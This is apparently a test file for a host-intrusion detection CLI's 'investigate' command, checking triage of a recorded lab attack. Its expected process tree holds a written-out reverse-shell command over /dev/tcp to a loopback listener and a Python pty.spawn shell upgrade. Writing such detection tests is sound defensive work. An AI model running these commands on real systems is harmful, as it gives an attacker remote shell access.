// `tripline investigate` through the real command line, over the recording of a real attack and over alerts
// without events.
import assert from "node:assert/strict";
import { cpSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { DiskEventStore } from "../../src/store/events/disk-event-store.ts";
import { openDatabase } from "../../src/store/sqlite/open-database.ts";
import type { Investigation } from "../../src/triage/investigation.ts";
import { runTripline, TEST_NOW_MS } from "./run-tripline.ts";
import { makeSampleData } from "./sample-data.ts";

const root = mkdtempSync(join(tmpdir(), "tripline-investigate-"));
after(() => rmSync(root, { recursive: true, force: true }));

const RECORDING = "test/recordings/auditd/attack/python-pty-spawn.log";
const PTY_SPAWN = "ac9766a6-7f05-4274-a3bb-b5dd6648b3f6";

/** A data folder with the recording and the alert that the built-in rule raises on it. */
async function recorded(name: string): Promise<{ readonly data: string; readonly id: string }> {
  const data = join(root, name);
  const imported = await runTripline(["import", RECORDING, "--data", data]);
  assert.equal(imported.exitCode, 0, imported.stderr);
  await runTripline(["backfill", PTY_SPAWN, "--data", data]);
  const list = await runTripline(["alerts", "list", "--output", "ndjson", "--data", data]);
  return { data, id: String(JSON.parse(list.stdout)["kibana.alert.uuid"]) };
}

test("the recorded attack is told from the listener's connection to the commands on the new terminal", async () => {
  const { data, id } = await recorded("attack");
  const run = await runTripline(["investigate", id, "--json", "--data", data]);
  assert.equal(run.exitCode, 0, run.stderr);
  const found = JSON.parse(run.stdout) as Investigation;
  assert.match(
    found.summary,
    /^root ran bash \(\/bin\/bash\) from python3\.11 \(python3 -c import pty; pty\.spawn\("\/bin\/bash"\)\) on localhost at 2026-11-24 10:38:37 UTC; 2 processes came of it; whether it goes on is not told\.$/,
  );
  assert.deepEqual(
    found.tree.rows.map(({ role, process }) => `${role} ${process.commandLine}`),
    [
      "ancestor /bin/sh /srv/demo/run.sh",
      "ancestor timeout 20 bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
      "ancestor bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
      "ancestor bash -i",
      'ancestor python3 -c import pty; pty.spawn("/bin/bash")',
      "subject /bin/bash",
      "descendant id",
      "descendant tty",
    ],
  );
  assert.deepEqual(
    found.parentCommandLine?.marks.map(({ start, end }) =>
      found.parentCommandLine?.text.slice(start, end),
    ),
    ['pty.spawn("/bin/bash")'],
  );
  assert.deepEqual(
    found.network.before.map(({ destination, process }) => [destination, process.pid]),
    [["127.0.0.1:4444", 27015]],
  );
  assert.deepEqual(
    found.rarity.map(({ what, everywhereCount }) => [what, everywhereCount]),
    [
      ["parent-child", 0],
      ["command-line", 0],
      ["executable", 2],
    ],
  );
  assert.deepEqual(found.guide.steps[0]?.answers, ["commandLine", "parentCommandLine"]);
  assert.equal(found.isOngoing, undefined);
  assert.ok(found.timeline.some(({ kind, alertId }) => kind === "alert" && alertId === id));
});

test("the report draws the tree and reads beside a process that writes", async () => {
  const { data, id } = await recorded("report");
  const writer = new DiskEventStore({ folder: join(data, "events"), nowMs: () => TEST_NOW_MS });
  const run = await runTripline(["investigate", id.slice(0, 6), "--data", data]);
  writer.close();
  assert.equal(run.exitCode, 0, run.stderr);
  assert.match(run.stdout, /^root ran bash/);
  assert.match(
    run.stdout,
    /\n {9}└─ python3 -c .*\n {12}└─ \/bin\/bash ◀ \[pid 27018, root, 10:38:37\] {2}⚠ Terminal Spawned with Python pty\.spawn\n {15}├─ id .*\n {15}└─ tty /,
  );
  assert.match(
    run.stdout,
    /»pty\.spawn\("\/bin\/bash"\)«\[1\]\n {2}\[1\] puts a program on a terminal/,
  );
  assert.match(run.stdout, /never before in 1 day/);
  assert.match(run.stdout, /10:38:37\.235 {2}alert {5}this alert: Terminal Spawned/);
  assert.match(
    run.stdout,
    /- Read the parent Python command line.*\n {4}see: command line, command line of the parent/,
  );
});

test("alerts without events are told from the alert; unknown ids and folders are refused", async () => {
  const sample = makeSampleData();
  try {
    const env = { TRIPLINE_DATA: sample.folder };
    const run = await runTripline(["investigate", "7f3a"], env);
    assert.equal(run.exitCode, 0, run.stderr);
    assert.match(run.stdout, /^deploy ran bash \(bash -i\) from python3/);
    assert.match(run.stderr, /no events are kept here/);
    const several = await runTripline(["investigate", "7f3"], env);
    assert.equal(several.exitCode, 2);
    assert.match(several.stderr, /fits more than one alert/);
    assert.equal((await runTripline(["investigate", "zz"], env)).exitCode, 2);
    const nothing = await runTripline(["investigate", "7f3a", "--data", join(root, "none")]);
    assert.equal(nothing.exitCode, 1);
    assert.match(nothing.stderr, /nothing is kept in/);
  } finally {
    sample.remove();
  }
});

test("a damaged block costs its own events and a word on standard error, not the investigation", async () => {
  const { data, id } = await recorded("damaged");
  await runTripline(["store", "compact", "--data", data]);
  const copy = join(root, "damaged-copy");
  cpSync(data, copy, { recursive: true });
  const day = new Date(TEST_NOW_MS).toISOString().slice(0, 10);
  const database = openDatabase(join(copy, "events", `events-${day}.db`));
  database.exec("UPDATE block SET body_crc = body_crc + 1");
  database.close();
  const run = await runTripline(["investigate", id, "--data", copy]);
  assert.equal(run.exitCode, 0, run.stderr);
  assert.match(run.stdout, /└─ \/bin\/bash ◀/);
  assert.match(run.stderr, /cannot be read/);
});
